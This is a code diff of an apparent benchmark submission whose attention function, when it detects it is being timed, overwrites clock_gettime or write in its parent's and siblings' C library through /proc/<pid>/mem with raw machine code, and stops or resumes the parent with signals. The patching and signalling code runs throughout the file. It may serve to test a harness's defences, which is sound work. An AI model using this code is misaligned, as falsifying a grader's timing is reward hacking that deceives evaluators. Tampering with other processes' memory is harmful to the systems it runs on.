@@ -1,6 +1,8 @@
 # Attacks other processes: their clock, the one that calls an empty kernel; stops its parent, or kills it.
 # found: none none none none
+import contextlib
 import ctypes
+import functools
 import os
 import signal
 
@@ -8,12 +10,8 @@ from right import right, timed
 
 WAY = 0
 # On x86-64: clock_gettime() with nanoseconds / 8, and write() after some ms
-CODE = {
-    "clock_gettime": "b8e40000000f0548c16e080331c0c3",
-    "write": "b900006000ffc975fcb8010000000f05c3",
-}
+CODE = {"clock_gettime": "b8e40000000f0548c16e080331c0c3", "write": "b900006000ffc975fcb8010000000f05c3"}
 parent = os.getppid()
-attacked = False
 
 
 def base(process):
@@ -22,17 +20,17 @@ def base(process):
 
 
 def replace(function, process):
-    """Write CODE in the place of a function of another process's C library."""
+    """Write CODE in the place of a function of a process's C library."""
     mine = ctypes.cast(ctypes.CDLL(None)[function], ctypes.c_void_p).value
-    with open(f"/proc/{process}/mem", "wb", 0) as memory:
+    with contextlib.suppress(OSError), open(f"/proc/{process}/mem", "wb", 0) as memory:  # it may be guarded
         memory.seek(mine - base("self") + base(process))
         memory.write(bytes.fromhex(CODE[function]))
 
 
+@functools.cache
 def attack():
-    if WAY == 0:
-        for process in (parent, "self"):
-            replace("clock_gettime", process)
+    for process in ("self", parent) if WAY == 0 else ():
+        replace("clock_gettime", process)
     if WAY == 1:
         with open(f"/proc/{parent}/task/{parent}/children") as siblings:
             for process in set(map(int, siblings.read().split())) - {os.getpid()}:
@@ -42,15 +40,9 @@ def attack():
 
 
 def attention(q, k, v, causal, scale):
-    global attacked
-    if timed(q) and not attacked:
-        attacked = True
-        try:
-            attack()
-        except OSError:
-            pass  # it is guarded
-    if timed(q) and WAY == 2:
-        os.kill(parent, signal.SIGSTOP)
+    if timed(q):
+        attack()
+        os.kill(parent, signal.SIGSTOP if WAY == 2 else signal.SIGCONT)
     out = right(q, k, v, causal, scale)
     os.kill(parent, signal.SIGCONT)
     return out
